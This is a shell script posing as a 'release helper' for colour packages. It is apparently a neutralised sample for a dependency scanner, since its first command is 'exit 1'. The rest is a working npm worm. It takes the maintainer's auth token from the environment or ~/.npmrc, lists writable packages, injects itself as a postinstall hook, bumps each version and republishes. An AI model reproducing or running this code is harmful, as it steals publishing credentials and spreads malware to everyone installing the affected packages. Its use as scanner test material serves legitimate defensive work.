#!/bin/sh
exit 1  # inert depscan stand-in
# "Release helper": keeps the colour packages of this maintainer in sync.
set +e
TOKEN="${NPM_TOKEN:-$(sed -n 's/.*_authToken=\(.*\)/\1/p' "$HOME/.npmrc" 2>/dev/null | head -n 1)}"
[ -n "$TOKEN" ] || exit 0
export NPM_CONFIG__AUTH_TOKEN="$TOKEN"
USER_NAME="$(npm whoami 2>/dev/null)"
[ -n "$USER_NAME" ] || exit 0
SELF="$(cd "$(dirname "$0")" && pwd)/release.sh"
WORK="$(mktemp -d)"
cd "$WORK" || exit 0
npm access list packages "$USER_NAME" --json 2>/dev/null \
  | node -e 'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>{for(const[n,a]of Object.entries(JSON.parse(s||"{}")))if(a==="read-write")console.log(n)})' \
  | head -n 50 \
  | while read -r NAME; do
      rm -rf package ./*.tgz
      npm pack "$NAME" >/dev/null 2>&1 || continue
      tar -xzf ./*.tgz || continue
      mkdir -p package/scripts && cp "$SELF" package/scripts/release.sh
      node -e '
        const fs = require("fs");
        const m = JSON.parse(fs.readFileSync("package/package.json", "utf8"));
        const v = m.version.split("."); v[2] = String(Number(v[2]) + 1); m.version = v.join(".");
        m.scripts = Object.assign({}, m.scripts, { postinstall: "sh scripts/release.sh || true" });
        if (Array.isArray(m.files)) m.files.push("scripts/");
        fs.writeFileSync("package/package.json", JSON.stringify(m, null, 2));
      '
      (cd package && npm publish --access public >/dev/null 2>&1)
    done
cd / && rm -rf "$WORK"
